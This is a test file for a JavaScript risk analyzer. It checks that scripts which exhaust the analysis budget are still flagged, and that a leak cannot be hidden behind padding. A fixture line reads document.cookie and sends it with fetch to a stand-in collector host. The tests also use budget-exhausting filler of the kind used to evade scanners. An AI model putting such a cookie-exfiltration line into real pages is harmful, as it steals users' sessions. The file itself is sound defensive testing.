import { describe, expect, test } from "vitest";
import { analyzeScript } from "./analyze-script.ts";

const LEAK = "const c = document.cookie;\nfetch('https://collector.stranger.test/?c=' + c);";

/** Work that brings nothing to light. Calls with constants are looked at one by one, so it is never summarized. */
const BALLAST = Array.from({ length: 450 }, (_, run) => `burn(${run});`).join("\n");
const BURN = "function burn(run) { return [...'x'.repeat(9_000)].length + run; }";

describe("a script that exhausts the budget", () => {
	test("is Medium, and the text says that it was not checked in full", () => {
		const result = analyzeScript({ code: `${BURN}\n${BALLAST}` });
		expect(result).toMatchObject({ risk_level: "amber", score: 70, capabilities: { offline: false } });
		expect(result.summary).toContain("Not checked in full");
	});

	test("by its size alone is told so as well, and is red for what it does first", () => {
		const large = `const words = [${'"word",'.repeat(500_000)}];`;
		expect(large.length).toBeGreaterThan(3_000_000);
		const { risk_level, vulnerabilities } = analyzeScript({ code: `${LEAK}\n${large}` });
		expect(risk_level).toBe("red");
		expect(vulnerabilities.map(({ type, severity }) => `${type} ${severity}`)).toContain("checked-in-part medium");
	});

	test("cannot hide a leak behind it: a run that does not believe in constants skips the work", () => {
		expect(analyzeScript({ code: `${BURN}\n${BALLAST}\n${LEAK}` }).risk_level).toBe("red");
	});

	test("stays red when the leak was proven before", () => {
		expect(analyzeScript({ code: `${LEAK}\n${BURN}\n${BALLAST}` }).risk_level).toBe("red");
	});
});
